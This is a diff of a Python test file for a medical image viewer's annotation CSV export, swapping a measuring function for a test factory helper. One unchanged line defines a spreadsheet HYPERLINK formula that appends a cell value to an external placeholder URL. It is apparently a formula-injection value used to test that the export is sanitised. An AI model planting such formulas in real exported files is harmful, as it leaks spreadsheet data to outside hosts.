@@ -13,7 +13,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from tests.factories.annotations import drawn, length
+from tests.factories.annotations import drawn, length, measured
 from tests.factories.viewports import Recipe, flat, loaded, stack_of
 from viewer.app.annotation_places import anchor_of
 from viewer.export.annotations_csv import (
@@ -27,7 +27,6 @@ from viewer.model.annotation import AnnotationKind, Measurement, Quantity
 from viewer.model.display_set import StackFrame
 from viewer.model.geometry import PixelSpacing, SpacingSource
 from viewer.model.header import PatientFacts
-from viewer.tools.measuring import measure
 
 FRAME = stack_of(flat([1000, 2000]), Recipe(first_mm=-12.5)).frames[1]
 FORMULA = '=HYPERLINK("http://example.org?"&A1)'
@@ -36,7 +35,7 @@ FORMULA = '=HYPERLINK("http://example.org?"&A1)'
 def entry(text: str = "", frame: StackFrame = FRAME, **more: Any) -> MeasuredAnnotation:
     annotation = replace(length((1.5, 2), (11.5, 2), anchor=anchor_of(frame)), text=text, **more)
     picture = loaded(frame, np.full((64, 64), 1000, np.uint16)).image
-    return MeasuredAnnotation(annotation, frame, measure(annotation, picture))
+    return MeasuredAnnotation(annotation, frame, measured(annotation, picture))
 
 
 def rows_of(path: Path) -> list[dict[str, str]]:
@@ -47,7 +46,7 @@ def rows_of(path: Path) -> list[dict[str, str]]:
 def test_one_row_for_each_number(tmp_path: Path) -> None:
     box = drawn(AnnotationKind.RECTANGLE, (0, 0), (10, 10), anchor=anchor_of(FRAME))
     picture = loaded(FRAME, np.full((64, 64), 1000, np.uint16)).image
-    region = MeasuredAnnotation(box, FRAME, measure(box, picture))
+    region = MeasuredAnnotation(box, FRAME, measured(box, picture))
     path = tmp_path / "a.csv"
     assert write_annotations_csv(path, (entry("tumour, left"), region), with_identity=False) == 8
     rows = rows_of(path)
